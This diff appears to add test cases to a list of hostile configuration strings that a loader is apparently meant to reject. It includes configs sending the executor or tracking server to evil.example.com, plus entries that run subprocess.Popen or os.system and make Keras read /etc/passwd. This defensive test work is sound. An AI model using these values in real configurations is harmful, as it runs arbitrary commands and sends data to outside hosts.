@@ -49,6 +49,9 @@ STRANGERS = {
     "an executor": f"executor: {{_target_: subprocess.Popen, {TOUCH}}}",
     "its executor by what it allows": "targets: {allow: [subprocess.]}\n"
     f"executor: {{_target_: subprocess.Popen, {TOUCH}}}\nstudy: {{factors: {{targets.allow: [[mine_of_tests.]]}}}}",
+    "a cluster": "defaults: [{override /executor: ray}]\nexecutor: {address: 'ray://evil.example.com:10001'}",
+    "a cluster without a scheme": "defaults: [{override /executor: ray}]\nexecutor: {address: 'evil.example.com:6379'}",
+    "a server": "tracking: {root: 'http://evil.example.com:5000'}",
     "a nested target": "initializer: {value: {_target_: os.system, command: 'true'}}",
     "a description that Keras imports": "initializer: {value: {class_name: system, module: os, config: {}}}",
     "Keras's downloads": "initializer: {_target_: keras.utils.get_file, origin: 'file:///etc/passwd'}",
